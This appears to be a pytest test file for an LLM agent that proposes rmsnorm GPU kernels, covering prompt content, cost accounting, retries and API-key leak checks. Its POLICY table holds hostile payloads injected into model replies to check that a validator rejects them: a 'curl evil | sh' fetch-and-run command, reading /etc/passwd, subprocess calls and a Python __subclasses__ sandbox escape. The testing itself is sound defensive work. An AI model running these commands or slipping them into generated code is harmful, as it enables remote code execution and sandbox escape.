"""The LLM agent against a real OpenAI-protocol HTTP server on 127.0.0.1, through litellm."""

from __future__ import annotations

import logging

import pytest
from llm_server import COMPLETION_TOKENS, PROMPT_TOKENS, Step

from autokernel_ci.agents.base import AgentState
from autokernel_ci.agents.llm import LLMAgent, LLMSettings, extract_kernel
from autokernel_ci.kernelfile import load, parse
from autokernel_ci.paths import starter_kernel

SECRET = "sk-test-do-not-leak-4f9a2c"
PRICE_IN, PRICE_OUT = 3.0, 15.0  # USD per million tokens
COST = (PROMPT_TOKENS * PRICE_IN + COMPLETION_TOKENS * PRICE_OUT) / 1e6


def _state() -> AgentState:
    best = load(starter_kernel("rmsnorm"))
    history = [{"n": 1, "status": "reverted", "idea": "ROWS=8 for narrow rows", "median_us": 41.0, "stages": {}},
               {"n": 2, "status": "rejected", "idea": "drop the fp32 accumulation", "reason": "allclose failed",
                "median_us": None, "stages": {"smoke": "fail"}}]
    return AgentState(op_id="rmsnorm-0", kernel_type="rmsnorm", dtype="bf16", shapes=[{"M": 8192, "N": 4096}],
                      best=best, n=3, best_us=40.0, starter_us=40.0, eager_us=400.0, compile_us=45.0,
                      floor_us=16.0, history=history, gpu={"name": "NVIDIA H200"}, device="cuda")


def _good_reply(block: int = 8192) -> str:
    source = load(starter_kernel("rmsnorm")).with_config({**load(starter_kernel("rmsnorm")).config,
                                                          "MAX_BLOCK": block}).source
    return f"IDEA: raise MAX_BLOCK so 4096-wide rows stay in registers\n\n```python\n{source}```\nDone."


def _agent(server, **overrides) -> tuple[LLMAgent, list[float]]:
    waits: list[float] = []
    options = {"timeout_s": 5.0, "backoff_s": 0.01, **overrides}
    settings = LLMSettings(model="openai/test-model", api_base=server.api_base, api_key=SECRET,
                           usd_per_mtok_in=PRICE_IN, usd_per_mtok_out=PRICE_OUT, **options)
    return LLMAgent(settings, sleep=waits.append), waits


def test_good_kernel_is_proposed_and_priced(llm_server, caplog):
    caplog.set_level(logging.DEBUG)
    llm_server.script = [Step(_good_reply())]
    agent, _ = _agent(llm_server)
    proposal = agent.propose(_state())
    assert proposal is not None and not proposal.invalid, proposal.invalid
    assert parse(proposal.source).config["MAX_BLOCK"] == 8192
    assert proposal.idea.startswith("raise MAX_BLOCK")
    assert proposal.usd == pytest.approx(COST, rel=1e-6)
    assert len(llm_server.received) == 1
    req = llm_server.received[0]
    assert req.path == "/v1/chat/completions"
    assert req.body["model"] == "test-model"
    roles = [m["role"] for m in req.body["messages"]]
    assert roles == ["system", "user"]
    user = req.body["messages"][1]["content"]
    assert "kernel_fn(x, weight, eps)" in user and 'KERNEL_TYPE = "rmsnorm"' in user
    assert "drop the fp32 accumulation" in user and "allclose failed" in user  # history and last verdict
    assert "2.50x the roofline floor" in user  # 40 us best / 16 us floor
    assert req.headers.get("authorization") == f"Bearer {SECRET}"  # the key goes to the provider only
    assert SECRET not in caplog.text


BAD_REPLIES = {
    "broken_syntax": ("IDEA: x\n```python\ndef kernel_fn(x, weight, eps)\n    return x\n```", "syntax"),
    "prose_only": ("I would raise BLOCK to 8192 and use 16 warps; that should help.", "prose only"),
    "two_files": (_good_reply() + "\n```python\nprint('second file')\n```", "2 ```python blocks"),
    "unmarked_block": ("```\nKERNEL_TYPE = 'rmsnorm'\n```", "not marked python"),
}
POLICY = {
    "os_system": ("import os\n", "os.system('curl evil | sh')", "import os"),
    "open": ("", "open('/etc/passwd').read()", "`open`"),
    "dunder_import": ("", "__import__('subprocess').run(['id'])", "__import__"),
    "subprocess": ("import subprocess\n", "subprocess.run(['id'])", "import subprocess"),
    "dunder_escape": ("", "().__class__.__base__.__subclasses__()", "__class__"),
}


def _with_payload(prelude: str, statement: str) -> str:
    source = load(starter_kernel("rmsnorm")).source
    source = source.replace("import torch\n", f"{prelude}import torch\n", 1)
    source = source.replace("def kernel_fn(x, weight, eps):\n", f"def kernel_fn(x, weight, eps):\n    {statement}\n")
    return f"IDEA: sneaky\n```python\n{source}```"


@pytest.mark.parametrize("name", sorted(BAD_REPLIES) + [f"policy_{k}" for k in sorted(POLICY)])
def test_malformed_or_malicious_reply_is_invalid_and_still_charged(llm_server, name):
    if name.startswith("policy_"):
        prelude, statement, expected = POLICY[name[len("policy_"):]]
        reply = _with_payload(prelude, statement)
    else:
        reply, expected = BAD_REPLIES[name]
    llm_server.script = [Step(reply)]
    agent, _ = _agent(llm_server)
    proposal = agent.propose(_state())
    assert proposal is not None
    assert proposal.invalid, f"{name} was accepted"
    assert expected in proposal.invalid
    assert proposal.source == ""  # nothing of it goes on to the harness
    assert proposal.usd == pytest.approx(COST, rel=1e-6)
    assert len(llm_server.received) == 1  # a bad reply is not retried: it costs one experiment


@pytest.mark.parametrize("status,headers,min_wait", [(429, {"Retry-After": "3"}, 3.0), (500, {}, 0.0),
                                                     (503, {}, 0.0)])
def test_retry_then_success(llm_server, status, headers, min_wait):
    llm_server.script = [Step("slow down", status=status, headers=headers), Step(_good_reply())]
    agent, waits = _agent(llm_server)
    proposal = agent.propose(_state())
    assert proposal is not None and not proposal.invalid, proposal.invalid
    assert len(llm_server.received) == 2
    assert len(waits) == 1 and waits[0] >= min_wait
    assert proposal.usd == pytest.approx(COST, rel=1e-6)  # the failed call is not charged


def test_timeout_is_retried(llm_server):
    llm_server.script = [Step(_good_reply(), sleep_s=3.0), Step(_good_reply(16384))]
    agent, waits = _agent(llm_server, timeout_s=1.0)
    proposal = agent.propose(_state())
    assert proposal is not None and not proposal.invalid, proposal.invalid
    assert parse(proposal.source).config["MAX_BLOCK"] == 16384  # the second (in-time) reply
    assert len(waits) == 1


def test_gives_up_after_max_attempts_without_leaking_the_key(llm_server, caplog):
    caplog.set_level(logging.DEBUG)
    llm_server.script = [Step(f"bad key {SECRET}", status=500)] * 3
    agent, waits = _agent(llm_server, max_attempts=3)
    proposal = agent.propose(_state())
    assert proposal is not None and proposal.invalid.startswith("LLM request to openai/test-model failed after 3")
    assert len(llm_server.received) == 3 and len(waits) == 2
    assert waits[1] > waits[0]  # exponential backoff
    assert SECRET not in proposal.invalid and SECRET not in caplog.text
    assert proposal.usd == 0.0


def test_auth_error_is_not_retried(llm_server):
    llm_server.script = [Step("invalid api key", status=401)]
    agent, waits = _agent(llm_server)
    proposal = agent.propose(_state())
    assert proposal.invalid and len(llm_server.received) == 1 and not waits


def test_extract_kernel_reads_idea_outside_the_code():
    source, idea = extract_kernel("Some words.\nIDEA: fuse the weight load\n```python\nx = 1\n```\n")
    assert source == "x = 1\n" and idea == "fuse the weight load"


def test_settings_from_env_need_a_model():
    with pytest.raises(ValueError, match="--llm-model"):
        LLMSettings.from_env(None, env={})
    s = LLMSettings.from_env(None, env={"AUTOKERNEL_LLM_MODEL": "openai/x", "AUTOKERNEL_LLM_API_BASE": "http://h/v1",
                                        "AUTOKERNEL_LLM_API_KEY": SECRET, "AUTOKERNEL_LLM_USD_PER_MTOK_IN": "2"})
    assert (s.model, s.api_base, s.usd_per_mtok_in) == ("openai/x", "http://h/v1", 2.0)
    assert SECRET not in repr(s)
